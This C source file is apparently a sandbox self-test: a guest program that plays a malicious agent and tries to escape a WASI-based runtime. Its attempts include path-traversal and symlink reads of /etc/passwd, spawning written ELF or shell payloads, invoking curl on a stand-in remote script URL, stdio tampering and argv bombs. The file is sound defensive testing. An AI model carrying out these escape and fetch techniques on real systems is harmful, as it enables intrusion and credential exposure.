// SPDX-License-Identifier: GPL-2.0
/*
 * agent: a malicious agent. One attempt per run, chosen by argv[1], so
 * a test sees each attempt's outcome (status, audit event) separately:
 *
 *   write-elf-run DIR     write an ELF into DIR, spawn its path
 *   write-script-run DIR  write a #!/bin/sh script into DIR, spawn its path
 *   spawn-unlisted [NAME] spawn a module that is not in the megabinary (curl)
 *   wasm-from-disk FILE   read wasm bytes from FILE, ask to run them
 *   escape-dotdot DIR     open DIR/../../../../etc/passwd (relative to DIR)
 *   escape-symlink DIR    create DIR/agent-link -> /etc/passwd, then open
 *                         DIR/link-out (a link made beforehand, pointing out)
 *   escape-absolute DIR   open "/etc/passwd" relative to DIR
 *   escape-slash DIR      through "link-dir/" and "link-file/" (links made
 *                         beforehand, pointing out): stat and set the times
 *                         (nofollow and follow), readlink, hard-link
 *   stdio-root NAME       open NAME relative to fd 0 (run with a directory
 *                         as stdin) and list fd 0
 *   stdio-tamper X        on fd 1: truncate, clear O_APPEND, allocate,
 *                         pwrite, set times, seek, sync (the report on
 *                         stderr), then write "tail" to it
 *   stderr-swap DIR       close fd 2, create DIR/swallowed (taking fd 2),
 *                         then spawn-unlisted: its event must not land there
 *   spawn-argv-bomb X     spawn a listed module with argv over the limits
 *                         (4096 aliases of one 1000-byte string, one 2 MiB
 *                         string): E2BIG, no denial; then within them
 *   spawn-nest N          spawn "agent spawn-nest N+1" until refused; print
 *                         "depth N: spawn = R"
 *   gate-file FILE        ask nojit.gate_code whether FILE's bytes may run
 *                         as a script: "gate: listed" and exit 0 when
 *                         allowed (a listed file), else ended with 120
 *   lua-write-run DIR     write a Lua script of its own into DIR and run it
 *                         with the bundled lua: its status is the agent's
 *   lua-load SCRIPT       run the bundled lua on SCRIPT (a listed one, e.g.
 *                         selftests/vk/lua/attempts.lua) with "string" and
 *                         code the agent generated, which SCRIPT hands to
 *                         load(): lua's status is the agent's
 *   py-write-run DIR      write a Python script of its own into DIR and run
 *                         it with the bundled python3: its status is the
 *                         agent's
 *   py-exec SCRIPT        run the bundled python3 on SCRIPT (a listed one,
 *                         e.g. selftests/vk/python/generate.py) with "exec":
 *                         SCRIPT hands code it generates to exec()
 *
 * The spawn attempts must never return (status 120 from the vkernel).
 * The escape attempts print "refused: <error>" and exit 0 when refused,
 * "ESCAPED" and exit 3 if the file opened. Exit 3 always means the attack
 * worked; 2 is a usage or setup error.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <wasi/api.h>

#include "nojit_guest.h"

static int write_file(const char *path, const void *data, size_t len)
{
	FILE *f = fopen(path, "wb");

	if (!f || fwrite(data, 1, len, f) != len || fclose(f) != 0) {
		fprintf(stderr, "agent: %s: %s\n", path, strerror(errno));
		return -1;
	}
	return 0;
}

static int spawn_path(const char *path)
{
	const char *argv[] = { path, NULL };
	int32_t st;

	printf("agent: spawning %s\n", path);
	fflush(stdout);
	st = nojit_spawn(path, strlen(path), argv, 1);
	printf("agent: spawn returned %d: NOT DENIED\n", (int)st);
	return 3;
}

static int write_elf_run(const char *dir)
{
	/* An x86-64 ELF header whose code would be exit(0). */
	static const unsigned char elf[] = {
		0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0,
		2, 0, 0x3e, 0, 1, 0, 0, 0, 0x78, 0, 0x40, 0, 0, 0, 0, 0,
		0x40, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
		0, 0, 0, 0, 0x40, 0, 0x38, 0, 1, 0, 0, 0, 0, 0, 0, 0,
		0x31, 0xff, 0xb8, 0x3c, 0, 0, 0, 0x0f, 0x05,	/* xor edi,edi; mov eax,60; syscall */
	};
	char path[4096];

	snprintf(path, sizeof(path), "%s/payload.elf", dir);
	if (write_file(path, elf, sizeof(elf)) < 0)
		return 2;
	return spawn_path(path);
}

static int write_script_run(const char *dir)
{
	static const char script[] = "#!/bin/sh\necho pwned\n";
	char path[4096];

	snprintf(path, sizeof(path), "%s/payload.sh", dir);
	if (write_file(path, script, sizeof(script) - 1) < 0)
		return 2;
	return spawn_path(path);
}

static int spawn_unlisted(const char *name)
{
	const char *argv[] = { name, "https://example.com/x.sh", NULL };
	int32_t st;

	printf("agent: spawning %s\n", name);
	fflush(stdout);
	st = nojit_spawn(name, strlen(name), argv, 2);
	printf("agent: spawn returned %d: NOT DENIED\n", (int)st);
	return 3;
}

static int read_file(const char *file, unsigned char **ret, size_t *ret_len)
{
	unsigned char *buf = NULL;
	size_t len = 0, cap = 0, n;
	FILE *f = fopen(file, "rb");

	if (!f) {
		fprintf(stderr, "agent: %s: %s\n", file, strerror(errno));
		return -1;
	}
	for (;;) {
		if (len == cap) {
			unsigned char *nb = realloc(buf, cap = cap ? 2 * cap : 65536);

			if (!nb) {
				free(buf);
				fclose(f);
				return -1;
			}
			buf = nb;
		}
		n = fread(buf + len, 1, cap - len, f);
		if (n == 0)
			break;
		len += n;
	}
	fclose(f);
	*ret = buf;
	*ret_len = len;
	return 0;
}

static int wasm_from_disk(const char *file)
{
	const char *argv[] = { "payload", NULL };
	unsigned char *buf;
	size_t len;
	int32_t st;

	if (read_file(file, &buf, &len) < 0)
		return 2;
	printf("agent: running %zu bytes from %s\n", len, file);
	fflush(stdout);
	st = nojit_spawn_bytes(buf, len, argv, 1);
	printf("agent: spawn_bytes returned %d: NOT DENIED\n", (int)st);
	return 3;
}

static int gate_file(const char *file)
{
	unsigned char *buf;
	size_t len;

	if (read_file(file, &buf, &len) < 0)
		return 2;
	fflush(stdout);
	nojit_gate_code(NOJIT_CODE_SCRIPT, file, strlen(file), buf, len);
	printf("gate: listed\n");
	free(buf);
	return 0;
}

/* Run a bundled interpreter (argv[0]); its exit status is ours. */
static int run_interp(const char *const *argv, size_t argc)
{
	int32_t st;

	fflush(stdout);
	st = nojit_spawn(argv[0], strlen(argv[0]), argv, argc);
	printf("agent: %s exited %d\n", argv[0], (int)st);
	return st < 0 ? 2 : st;
}

/* Write SCRIPT as DIR/NAME and run it with INTERP. */
static int write_run(const char *interp, const char *dir, const char *name, const char *script)
{
	const char *argv[] = { interp, NULL, NULL };
	char path[4096];

	snprintf(path, sizeof(path), "%s/%s", dir, name);
	if (write_file(path, script, strlen(script)) < 0)
		return 2;
	argv[1] = path;
	return run_interp(argv, 2);
}


static int lua_load(const char *script)
{
	/* Code made up at run time, never seen by the build. */
	char code[128];
	const char *argv[] = { "lua", script, "string", code, NULL };

	snprintf(code, sizeof(code), "print('pwned by generated code %d')", 6 * 7);
	return run_interp(argv, 4);
}

static int py_exec(const char *script)
{
	const char *argv[] = { "python3", script, "exec", NULL };

	return run_interp(argv, 3);
}

static int dir_open(const char *dir)
{
	int fd = open(dir, O_RDONLY | O_DIRECTORY);

	if (fd < 0)
		fprintf(stderr, "agent: %s: %s\n", dir, strerror(errno));
	return fd;
}

/*
 * The raw path_open call relative to dfd, as an attacker would make it
 * (libc refuses some paths, e.g. absolute ones, before asking the host).
 */
static int try_open(const char *what, int dfd, const char *path)
{
	__wasi_fd_t wfd = 0;
	__wasi_errno_t e;
	int fd;

	e = __wasi_path_open(dfd, __WASI_LOOKUPFLAGS_SYMLINK_FOLLOW, path, 0,
			     __WASI_RIGHTS_FD_READ, 0, 0, &wfd);
	errno = e;
	fd = e ? -1 : (int)wfd;
	if (fd >= 0) {
		char buf[64] = "";
		ssize_t n = read(fd, buf, sizeof(buf) - 1);

		printf("%s: %s: ESCAPED (read %zd bytes: %.20s)\n", what, path, n, buf);
		return 3;
	}
	printf("%s: %s: refused: %s\n", what, path, strerror(errno));
	return 0;
}

/* One attempt's outcome: 0 refused, 3 it worked. */
static int report(FILE *to, const char *what, const char *path, __wasi_errno_t e)
{
	if (!e) {
		fprintf(to, "%s: %s: ESCAPED\n", what, path);
		return 3;
	}
	fprintf(to, "%s: %s: refused: %s\n", what, path, strerror(e));
	return 0;
}

static int escape_slash(int dfd)
{
	static const char *const paths[] = { "link-dir/", "link-file/" };
	const __wasi_timestamp_t t = 12345ULL * 1000000000ULL;
	const __wasi_fstflags_t fst = __WASI_FSTFLAGS_ATIM | __WASI_FSTFLAGS_MTIM;
	__wasi_filestat_t st;
	__wasi_size_t n = 0;
	uint8_t buf[256];
	int r = 0;
	size_t i;

	for (i = 0; i < 2; i++) {
		const char *p = paths[i];

		r |= report(stdout, "stat-nofollow", p, __wasi_path_filestat_get(dfd, 0, p, &st));
		r |= report(stdout, "stat-follow", p,
			    __wasi_path_filestat_get(dfd, __WASI_LOOKUPFLAGS_SYMLINK_FOLLOW, p, &st));
		r |= report(stdout, "utimes-nofollow", p,
			    __wasi_path_filestat_set_times(dfd, 0, p, t, t, fst));
		r |= report(stdout, "utimes-follow", p,
			    __wasi_path_filestat_set_times(dfd, __WASI_LOOKUPFLAGS_SYMLINK_FOLLOW,
							   p, t, t, fst));
		r |= report(stdout, "readlink", p, __wasi_path_readlink(dfd, p, buf, sizeof(buf), &n));
		r |= report(stdout, "link", p, __wasi_path_link(dfd, 0, p, dfd, "agent-hl"));
	}
	return r;
}

static int stdio_root(const char *name)
{
	__wasi_size_t n = 0;
	__wasi_fd_t fd = 0;
	uint8_t buf[256];
	int r;

	r = report(stdout, "path_open(0)", name,
		   __wasi_path_open(0, 0, name, 0, __WASI_RIGHTS_FD_READ, 0, 0, &fd));
	return r | report(stdout, "readdir(0)", "", __wasi_fd_readdir(0, buf, sizeof(buf), 0, &n));
}

static int stdio_tamper(void)
{
	const __wasi_ciovec_t pw = { (const uint8_t *)"PWNED\n", 6 }, tail = { (const uint8_t *)"tail\n", 5 };
	__wasi_filesize_t off = 0;
	__wasi_size_t n = 0;
	int r = 0;

	r |= report(stderr, "fd 1", "filestat_set_size", __wasi_fd_filestat_set_size(1, 0));
	r |= report(stderr, "fd 1", "fdstat_set_flags", __wasi_fd_fdstat_set_flags(1, 0));
	r |= report(stderr, "fd 1", "allocate", __wasi_fd_allocate(1, 0, 1 << 20));
	r |= report(stderr, "fd 1", "pwrite", __wasi_fd_pwrite(1, &pw, 1, 0, &n));
	r |= report(stderr, "fd 1", "filestat_set_times",
		    __wasi_fd_filestat_set_times(1, 0, 0, __WASI_FSTFLAGS_ATIM | __WASI_FSTFLAGS_MTIM));
	r |= report(stderr, "fd 1", "seek", __wasi_fd_seek(1, 0, __WASI_WHENCE_SET, &off));
	r |= report(stderr, "fd 1", "sync", __wasi_fd_sync(1));
	if (__wasi_fd_write(1, &tail, 1, &n) || n != 5) {
		fprintf(stderr, "agent: cannot write to fd 1\n");
		return 2;
	}
	return r;
}

static int stderr_swap(int dfd)
{
	const __wasi_ciovec_t iov = { (const uint8_t *)"guest\n", 6 };
	__wasi_size_t n = 0;
	__wasi_fd_t fd = 0;
	__wasi_errno_t e;

	e = __wasi_fd_close(2);
	if (!e)
		e = __wasi_path_open(dfd, 0, "swallowed", __WASI_OFLAGS_CREAT | __WASI_OFLAGS_TRUNC,
				     __WASI_RIGHTS_FD_READ | __WASI_RIGHTS_FD_WRITE, 0, 0, &fd);
	if (e || fd != 2 || __wasi_fd_write(fd, &iov, 1, &n)) {
		printf("agent: stderr-swap setup failed: %s, fd %u\n", strerror(e), (unsigned)fd);
		return 2;
	}
	printf("agent: swallowed is fd 2\n");
	return spawn_unlisted("curl");
}

static int spawn_argv_bomb(void)
{
	static char word[1000], huge[2 << 20];
	const char **v = calloc(4097, sizeof(*v));
	const char *two[] = { "probe", huge, NULL };
	int32_t st;
	int r = 0, i;

	if (!v)
		return 2;
	memset(word, 'a', sizeof(word) - 1);
	memset(huge, 'b', sizeof(huge) - 1);
	v[0] = "probe";
	for (i = 1; i < 4096; i++)
		v[i] = word;	/* one string, 4095 times: ~4 MB if copied each time */
	st = nojit_spawn("probe", 5, v, 4096);
	printf("aliased argv: spawn = %d\n", (int)st);
	r |= st == -__WASI_ERRNO_2BIG ? 0 : 3;
	st = nojit_spawn("probe", 5, two, 2);
	printf("huge argv: spawn = %d\n", (int)st);
	r |= st == -__WASI_ERRNO_2BIG ? 0 : 3;
	/* Within the limits: 100 aliases, ~100 kB. */
	v[1] = "exit";
	v[2] = "7";
	st = nojit_spawn("probe", 5, v, 100);
	printf("small argv: spawn = %d\n", (int)st);
	r |= st == 7 ? 0 : 3;
	free(v);
	return r;
}

static int spawn_nest(int depth)
{
	char next[16];
	const char *v[] = { "agent", "spawn-nest", next, NULL };
	int32_t st;

	snprintf(next, sizeof(next), "%d", depth + 1);
	fflush(stdout);
	st = nojit_spawn("agent", 5, v, 3);
	printf("depth %d: spawn = %d\n", depth, (int)st);
	return st < 0 ? 0 : st;
}

int main(int argc, char **argv)
{
	const char *sel = argc > 1 ? argv[1] : "";
	const char *arg = argc > 2 ? argv[2] : NULL;
	int dfd;

	if (!strcmp(sel, "spawn-unlisted"))
		return spawn_unlisted(arg ? arg : "curl");
	if (!arg) {
		fprintf(stderr, "usage: agent write-elf-run|write-script-run|escape-dotdot|"
			"escape-symlink|escape-absolute|escape-slash|stderr-swap DIR | "
			"wasm-from-disk FILE | gate-file FILE | lua-write-run DIR | lua-load SCRIPT | "
			"py-write-run DIR | py-exec SCRIPT | "
			"spawn-unlisted [NAME] | stdio-root NAME | "
			"stdio-tamper X | spawn-argv-bomb X | spawn-nest N\n");
		return 2;
	}
	if (!strcmp(sel, "write-elf-run"))
		return write_elf_run(arg);
	if (!strcmp(sel, "write-script-run"))
		return write_script_run(arg);
	if (!strcmp(sel, "wasm-from-disk"))
		return wasm_from_disk(arg);
	if (!strcmp(sel, "gate-file"))
		return gate_file(arg);
	if (!strcmp(sel, "lua-write-run"))
		return write_run("lua", arg, "agent.lua", "print('pwned by the agent\\'s own Lua')\n");
	if (!strcmp(sel, "py-write-run"))
		return write_run("python3", arg, "agent.py", "print('pwned by the agent\\'s own Python')\n");
	if (!strcmp(sel, "py-exec"))
		return py_exec(arg);
	if (!strcmp(sel, "lua-load"))
		return lua_load(arg);
	if (!strcmp(sel, "stdio-root"))
		return stdio_root(arg);
	if (!strcmp(sel, "stdio-tamper"))
		return stdio_tamper();
	if (!strcmp(sel, "spawn-argv-bomb"))
		return spawn_argv_bomb();
	if (!strcmp(sel, "spawn-nest"))
		return spawn_nest(atoi(arg));

	dfd = dir_open(arg);
	if (dfd < 0)
		return 2;
	if (!strcmp(sel, "escape-dotdot"))
		return try_open("escape-dotdot", dfd, "../../../../../../etc/passwd");
	if (!strcmp(sel, "escape-absolute"))
		return try_open("escape-absolute", dfd, "/etc/passwd");
	if (!strcmp(sel, "escape-symlink")) {
		if (symlinkat("/etc/passwd", dfd, "agent-link") == 0) {
			int r = try_open("escape-symlink", dfd, "agent-link");

			if (r)
				return r;
		} else {
			printf("escape-symlink: symlink agent-link: refused: %s\n", strerror(errno));
		}
		return try_open("escape-symlink", dfd, "link-out");
	}
	if (!strcmp(sel, "escape-slash"))
		return escape_slash(dfd);
	if (!strcmp(sel, "stderr-swap"))
		return stderr_swap(dfd);
	fprintf(stderr, "agent: unknown attempt '%s'\n", sel);
	return 2;
}
